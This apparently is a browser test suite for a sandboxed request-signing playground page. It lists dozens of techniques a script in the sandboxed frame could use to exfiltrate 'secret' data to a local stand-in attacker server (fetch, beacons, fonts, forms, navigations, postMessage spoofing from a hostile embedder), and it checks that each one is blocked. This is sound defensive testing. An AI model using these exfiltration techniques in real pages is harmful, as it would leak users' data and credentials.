import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { eventually, pageFile } from './browser.ts'
import { exampleKeys } from './keys.ts'
import { describePage } from './session.ts'

/** The requests that reached the attacker's server. Each one is a failure. */
const attackerRequests: string[] = []
const attackerServer = createServer((request, response) => {
  attackerRequests.push(`${request.method} ${request.url}`)
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
})
/** The requests that reached a store that redirects its clients to the attacker's server. */
const receivedRequests: string[] = []
const redirecting = createServer((request, response) => {
  receivedRequests.push(`${request.url}`)
  const cors = {
    'access-control-allow-origin': '*',
    'access-control-allow-methods': '*',
    'access-control-allow-headers': '*',
  }
  if (request.method === 'OPTIONS' || request.method === 'HEAD') response.writeHead(204, cors).end()
  else response.writeHead(307, { ...cors, location: `${originOf(attackerServer)}${request.url}` }).end()
})
const originOf = (server: typeof attackerServer) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
beforeAll(async () => {
  for (const server of [attackerServer, redirecting]) await once(server.listen(0, '127.0.0.1'), 'listening')
})
afterAll(() => {
  for (const server of [attackerServer, redirecting]) {
    server.closeAllConnections()
    server.close()
  }
})

/** The URL that an attempt sends its request to. */
const urlFor = (technique: string) => `${originOf(attackerServer)}/${technique.replaceAll(' ', '-')}`

/** What a script could try if an attacker got one into the sealed frame. Each attempt returns its outcome. */
const attempts = {
  fetch: (to: string) =>
    fetch(to).then(
      () => 'sent',
      () => 'blocked',
    ),
  XMLHttpRequest: (to: string) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('sent')
      request.onerror = () => resolve('blocked')
      request.open('POST', to)
      request.send('secret')
    }),
  beacon: (to: string) => void navigator.sendBeacon(to, 'secret'),
  WebSocket: (to: string) => {
    try {
      new WebSocket(to.replace('http', 'ws'))
    } catch {}
  },
  EventSource: (to: string) => void new EventSource(to),
  image: (to: string) => {
    new Image().src = to
  },
  'background image': (to: string) => {
    document.body.setAttribute('style', `background: url(${to})`)
    document.body.style.backgroundImage = `url(${to})`
  },
  script: (to: string) => void document.head.append(Object.assign(document.createElement('script'), { src: to })),
  stylesheet: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to })),
  prefetch: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })),
  // This may open a connection, but must not send a request.
  preconnect: (to: string) =>
    void document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: to })),
  'speculation rules': (to: string) => {
    const textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] })
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent }))
  },
  'module script': (to: string) =>
    void document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: to })),
  font: (to: string) => {
    const [sheet] = document.styleSheets
    sheet!.insertRule(`@font-face { font-family: attacker; src: url(${to}) }`)
    sheet!.insertRule('body { font-family: attacker }', 1)
  },
  media: (to: string) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<video src="${to}" poster="${to}"></video><svg><use href="${to}#a"/><image href="${to}"/></svg><embed src="${to}">`,
    )
  },
  'frame with a blob URL': (to: string) => {
    const page = new Blob([`<img src="${to}"><meta http-equiv="refresh" content="0;url=${to}">`], { type: 'text/html' })
    document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(page) }))
  },
  'frame with srcdoc': (to: string) => {
    const srcdoc = `<img src="${to}"><script>fetch("${to}")</script>`
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
  },
  frame: (to: string) => void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  object: (to: string) => void document.body.append(Object.assign(document.createElement('object'), { data: to })),
  worker: (to: string) => {
    try {
      new Worker(`data:text/javascript,fetch(${JSON.stringify(to)})`)
    } catch {}
  },
  'pop-up': (to: string) => {
    try {
      window.open(to)
    } catch {}
  },
  'navigation of the top window': (to: string) => {
    try {
      top!.location.href = to
    } catch {}
  },
  'inline script': (to: string) => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: `fetch('${to}')` }))
  },
  'new Function': (to: string) => {
    try {
      new Function('to', 'fetch(to)')(to)
    } catch {}
  },
  'fetch of the page that contains the frame': (to: string) => {
    try {
      ;(parent as unknown as { fetch(to: string): void }).fetch(to)
    } catch {}
  },
}

/** Attempts that can navigate the frame away, so that each needs a fresh page. */
const navigations = {
  form: (to: string) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  download: (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, download: 'x' })
    document.body.append(link)
    link.click()
  },
  'link with a ping': (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, ping: to })
    document.body.append(link)
    link.click()
  },
  'link for the top window': (to: string) => {
    const link = Object.assign(document.createElement('a'), { href: to, target: '_top' })
    document.body.append(link)
    link.click()
  },
  navigation: (to: string) => {
    location.href = to
  },
  'meta refresh': (to: string) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}` }),
    )
  },
  'frame with a meta refresh': (to: string) => {
    const srcdoc = `<meta http-equiv="refresh" content="0;url=${to}">`
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
  },
}

describePage((session) => {
  beforeEach(() => {
    attackerRequests.length = 0
  })

  /** Waits long enough for a request to arrive, and checks that none did. */
  const settled = async () => {
    await new Promise((resolve) => setTimeout(resolve, 500))
    expect(attackerRequests).toEqual([])
    expect(session.visited.page.url()).toBe(session.url)
  }

  it('sends nothing, whatever a script in the sealed frame tries', async () => {
    // Browsers may report a blocked request as a request, so allow it here.
    session.allow(originOf(attackerServer))
    session.allow(originOf(attackerServer).replace('http', 'ws'))
    await session.visited.press('Fill in an example')
    for (const [technique, attempt] of Object.entries(attempts)) {
      const outcome = await session.visited.frame.evaluate(attempt as (to: string) => unknown, urlFor(technique))
      expect(outcome ?? 'blocked', technique).toBe('blocked')
    }
    await settled()
  })

  it.each(Object.entries(navigations))('sends nothing through a %s in the sealed frame', async (technique, attempt) => {
    session.allow(originOf(attackerServer))
    // `evaluate` fails if the attempt replaced the frame.
    await session.visited.frame.evaluate(attempt, urlFor(technique)).catch(() => {})
    await settled()
  })

  it('denies the sealed frame every kind of storage', async () => {
    const kept = await session.visited.frame.evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        localStorage: () => localStorage.setItem('a', 'b'),
        sessionStorage: () => sessionStorage.setItem('a', 'b'),
        cookie: () => {
          // biome-ignore lint/suspicious/noDocumentCookie: the test tries every kind of storage
          document.cookie = 'a=b'
        },
        indexedDB: () =>
          new Promise((resolve, reject) => {
            const request = indexedDB.open('a')
            request.onsuccess = resolve
            request.onerror = reject
          }),
        caches: () => caches.open('a'),
      }
      const kept: string[] = []
      for (const [name, store] of Object.entries(tries)) {
        try {
          await store()
          kept.push(name)
        } catch {}
      }
      return kept
    })
    expect(kept).toEqual([])
  })

  it('does not follow a redirect to another host', async () => {
    session.allow(originOf(redirecting))
    session.allow(originOf(attackerServer))
    await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
    await session.visited.fill('Key', 'a')
    await session.visited.press('Send GET')
    await session.visited.see('.outcome', /redirected to another host, and this page sends nothing there/)
    expect(attackerRequests).toEqual([])
  })

  it('lets a sender accept messages only from the page that contains it', async () => {
    session.allow(originOf(redirecting))
    session.allow(originOf(attackerServer))
    await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
    await session.visited.fill('Key', 'a')
    // Adds a second sender that has not received its request yet. Every sender is briefly in this state.
    await session.visited.page.evaluate(() => {
      const observer = new MutationObserver(([added]) => {
        observer.disconnect()
        document.body.append(added!.addedNodes[0]!.cloneNode())
      })
      observer.observe(document.body, { childList: true })
    })
    await session.visited.press('Send GET')
    await session.visited.see('.outcome', /another host/)
    await session.visited.frame.evaluate(
      (to) => {
        for (let index = 0; index < parent.length; index++)
          parent[index]!.postMessage({ url: to, method: 'GET', headers: {} }, '*', [new MessageChannel().port2])
      },
      `${originOf(redirecting)}/from-the-frame`,
    )
    await settled()
    expect(receivedRequests).toEqual(expect.arrayContaining([expect.stringMatching(/^\/bucket\/a\?/)]))
    expect(receivedRequests).not.toContain('/from-the-frame')
  })

  it('keeps credentials out of the page that contains the sealed frame', async () => {
    await session.visited.press('Fill in an example')
    await session.visited.see('.url', /X-Amz-Signature/)
    const around = await session.visited.page.evaluate(() => document.documentElement.outerHTML)
    expect(around).not.toContain('AKIAIOSFODNN7EXAMPLE%2F')
    const reached = await session.visited.page.evaluate(() => {
      try {
        return !!document.querySelector('iframe')!.contentWindow!.document
      } catch {
        return false
      }
    })
    expect(reached).toBe(false)
  })

  it('does not work in a frame of another page, which could cover it', async () => {
    const embedder = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end(
        `<!doctype html><iframe srcdoc="${readFileSync(pageFile, 'utf8').replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
      )
    })
    await once(embedder.listen(0, '127.0.0.1'), 'listening')
    try {
      const page = await session.visited.page.browser().newPage()
      await page.goto(originOf(embedder))
      const frame = await eventually('the frame', async () => page.frames().find((one) => one !== page.mainFrame()))
      await eventually('the notice instead of the playground', async () =>
        /works only in its own tab/.test(await frame.evaluate(() => document.body.textContent)),
      )
      expect(await frame.$('iframe')).toBe(null)
      await page.close()
    } finally {
      embedder.closeAllConnections()
      embedder.close()
    }
  })

  const embeddings = ['frame', 'sandbox', 'object', 'embed', 'window'] as const
  it.each(embeddings)('sends no requests for a hostile page that opens it in a %s', async (kind) => {
    const requested: string[] = []
    const host = createServer((request, response) => {
      requested.push(request.url!)
      response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'session=victim; HttpOnly' })
      response.end(request.url === '/' ? readFileSync(pageFile) : 'private')
    })
    await once(host.listen(0, '127.0.0.1'), 'listening')
    const hostile = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end('<!doctype html><title>hostile</title>')
    })
    await once(hostile.listen(0, '127.0.0.1'), 'listening')
    const page = await session.visited.page.browser().newPage()
    try {
      // Another site: in Chromium, a message of a removed frame has no source only if it comes from another process.
      await page.goto(originOf(hostile).replace('127.0.0.1', 'localhost'))
      const answers = page.evaluate(
        async (target, opens) => {
          const wait = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))
          const elements = {
            frame: () => Object.assign(document.createElement('iframe'), { src: `${target}/` }),
            sandbox: () => {
              const frame = Object.assign(document.createElement('iframe'), { src: `${target}/` })
              frame.setAttribute('sandbox', 'allow-scripts allow-same-origin')
              return frame
            },
            object: () => Object.assign(document.createElement('object'), { data: `${target}/`, type: 'text/html' }),
            embed: () => Object.assign(document.createElement('embed'), { src: `${target}/`, type: 'text/html' }),
          }
          if (opens !== 'window') document.body.append(elements[opens]())
          const popup = opens === 'window' ? window.open(`${target}/`) : undefined
          while (!popup && window.length === 0) await wait(10)
          const victim = popup ?? window[0]!
          const answers: unknown[] = []
          /** Posts from this page, or from a frame that is removed before the message arrives, which has no source. */
          const post = (to: Window, request: object, removed: boolean) => {
            const { port1, port2 } = new MessageChannel()
            port1.onmessage = ({ data }) => answers.push(data)
            if (!removed) return to.postMessage(request, '*', [port2])
            Object.assign(globalThis, { to })
            const source = document.createElement('iframe')
            document.body.append(source)
            const evaluate = (source.contentWindow as unknown as typeof globalThis).eval
            const send = evaluate('(request, port) => parent.to.postMessage(request, "*", [port])') as (
              request: object,
              port: MessagePort,
            ) => void
            send(request, port2)
            source.remove()
          }
          // While it loads and afterwards, to the shell and to the frames in it.
          const request = { url: `${target}/private`, method: 'GET', headers: {} }
          for (let times = 0; times < 15; times++) {
            for (const removed of [false, true]) {
              post(victim, { send: request }, removed)
              post(victim, { hello: true }, removed)
              for (let index = 0; index < victim.length; index++) post(victim[index]!, request, removed)
            }
            await wait(100)
          }
          // No other page may navigate the sealed frame, and then send messages in its name.
          for (const to of ['about:blank', `${location.origin}/inner`])
            try {
              victim[0]!.location.href = to
              answers.push(`navigated to ${to}`)
            } catch {}
          await wait(500)
          return answers
        },
        originOf(host),
        kind,
      )
      expect(await answers).toEqual([])
      expect(requested).toContain('/')
      expect(requested).not.toContain('/private')
    } finally {
      await page.close()
      for (const server of [host, hostile]) {
        server.closeAllConnections()
        server.close()
      }
    }
  })
})
